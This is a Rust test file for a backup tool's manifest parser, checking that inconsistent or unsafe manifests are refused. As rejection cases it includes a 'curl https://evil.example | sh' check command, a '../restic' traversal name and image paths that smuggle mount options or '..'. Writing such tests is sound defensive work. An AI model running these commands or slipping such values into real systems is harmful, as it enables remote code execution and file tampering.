//! Manifests that are read, and those that are refused.

use super::*;

fn example() -> Manifest {
    Manifest {
        format: MANIFEST_FORMAT,
        kind: Kind::Agent,
        name: "restic".into(),
        version: "0.14.0-1+b5".into(),
        architecture: "amd64".into(),
        created: Timestamp::UNIX_EPOCH,
        digest: Digest::of(b""),
        stored_bytes: limits::CHUNK_BYTES + 1,
        unpacked_bytes: 4 << 20,
        entries: 3,
        compression: Compression::Zstd,
        chunks: vec![Digest::of(b"a"), Digest::of(b"b")],
        placement: Placement::Ram,
        image: None,
        kernel_release: None,
        provides: Needs::default(),
        requires: Needs::default(),
        replaceable: vec![],
        packages: vec![],
        checks: vec![],
        agent: None,
        session: None,
        bounds: Bounds::default(),
    }
}

#[test]
fn what_is_written_is_read() {
    assert_eq!(Manifest::parse(&example().to_bytes()).unwrap(), example());
    assert_eq!(example().target_name(), "agent/restic/0.14.0-1+b5/amd64");
    assert_eq!(example().chunk_bytes(0), Some(limits::CHUNK_BYTES));
    assert_eq!(example().chunk_bytes(1), Some(1));
    assert_eq!(example().chunk_bytes(2), None);
}

#[test]
fn a_manifest_that_contradicts_itself_is_refused() {
    for break_it in [
        |m: &mut Manifest| m.chunks.truncate(1),
        |m: &mut Manifest| m.name = "../restic".into(),
        |m: &mut Manifest| m.unpacked_bytes = u64::MAX,
        |m: &mut Manifest| m.kind = Kind::Kernel,
    ] {
        let mut manifest = example();
        break_it(&mut manifest);
        assert!(matches!(
            Manifest::parse(&manifest.to_bytes()),
            Err(ManifestError::Inconsistent { .. })
        ));
    }
}

#[test]
fn only_agent_and_extra_layers_go_onto_the_target() {
    for (kind, may) in [
        (Kind::Agent, true),
        (Kind::Extra, true),
        (Kind::Base, false),
        (Kind::Host, false),
        (Kind::Credentials, false),
    ] {
        let mut manifest = example();
        (manifest.kind, manifest.placement) = (kind, Placement::Target);
        let parsed = Manifest::parse(&manifest.to_bytes());
        assert_eq!(parsed.is_ok(), may, "{kind}: {parsed:?}");
    }
}

#[test]
fn a_hosts_manifest_names_no_program_to_run() {
    let shell = ["bash", "-c", "curl https://evil.example | sh"].map(str::to_owned);
    for kind in [Kind::Host, Kind::Credentials] {
        let mut manifest = example();
        manifest.kind = kind;
        Manifest::parse(&manifest.to_bytes()).unwrap();
        manifest.checks = vec![Check {
            name: "the layout is there".into(),
            command: shell.to_vec(),
        }];
        let refused = Manifest::parse(&manifest.to_bytes()).unwrap_err();
        assert!(refused.to_string().contains("\"checks\""), "{refused}");
    }
}

type Change<'a> = &'a dyn Fn(&mut Manifest);

#[test]
fn each_kind_says_only_what_is_its_own() {
    let agent = |m: &mut Manifest| {
        m.agent = serde_json::from_str(r#"{"restore": ["restic", "restore"]}"#).unwrap();
    };
    let session = |m: &mut Manifest| {
        let session = r#"{"time": "2026-03-01T02:00:00Z", "captured": "2026-03-01T02:00:00Z", "hostname": "web-1",
            "backup": {"agent": "restic", "version": "0.14", "session": "1"}, "rear": "2.7",
            "hardware": {"architecture": "amd64", "uefi": false, "secure_boot": false, "memory_kib": 1, "pci": [],
            "modules": [], "disks": [], "boot_loaders": []}}"#;
        m.session = Some(serde_json::from_str(session).unwrap());
    };
    let image = |m: &mut Manifest| {
        let path = format!("towline/images/20-{}.squashfs", m.kind);
        let (bytes, content_bytes) = (1, 1);
        m.image = Some(Image {
            path,
            bytes,
            content_bytes,
        });
    };
    let release = |m: &mut Manifest| m.kernel_release = Some("6.1.0".into());
    let replaceable = |m: &mut Manifest| m.replaceable = vec!["etc/passwd".into()];
    let parts: [(Part, Change<'_>); 5] = [
        (Part::Agent, &agent),
        (Part::Session, &session),
        (Part::Image, &image),
        (Part::KernelRelease, &release),
        (Part::Replaceable, &replaceable),
    ];
    for (part, add) in parts {
        for kind in [
            Kind::Kernel,
            Kind::Base,
            Kind::Agent,
            Kind::Host,
            Kind::Credentials,
            Kind::Extra,
        ] {
            let mut manifest = example();
            manifest.kind = kind;
            if kind == Kind::Kernel {
                release(&mut manifest);
            }
            add(&mut manifest);
            let found = Manifest::parse(&manifest.to_bytes());
            assert_eq!(
                found.is_ok(),
                part.kinds().contains(&kind),
                "{part:?} in {kind}: {found:?}"
            );
        }
    }
}

#[test]
fn an_image_is_named_after_its_own_kind() {
    let named = |kind: Kind, path: &str| {
        let mut manifest = example();
        manifest.kind = kind;
        manifest.kernel_release = (kind == Kind::Kernel).then(|| "6.1.0".into());
        manifest.image = Some(Image {
            path: path.into(),
            bytes: 1,
            content_bytes: 1,
        });
        Manifest::parse(&manifest.to_bytes())
    };
    named(Kind::Base, "towline/images/20-base.squashfs").unwrap();
    named(Kind::Kernel, "towline/images/99-kernel.squashfs").unwrap();
    for path in [
        "towline/images/20-kernel.squashfs",
        "towline/images/2-base.squashfs",
        "towline/images/200-base.squashfs",
        "towline/images/+2-base.squashfs",
        "towline/images/20-base.squashfs/",
        "towline/images/20-base,upperdir=.squashfs",
        "towline/images/x/20-base.squashfs",
        "towline/images/..",
        "usr/bin/20-base.squashfs",
        "20-base.squashfs",
    ] {
        let refused = named(Kind::Base, path).unwrap_err();
        assert!(refused.to_string().contains("NN-base"), "{refused}");
    }
}

#[test]
fn a_newer_format_is_named_before_its_fields_are_read() {
    let found = Manifest::parse(br#"{"format": 2, "shape": "unknown"}"#);
    assert!(matches!(found, Err(ManifestError::Format { found: 2 })));
}
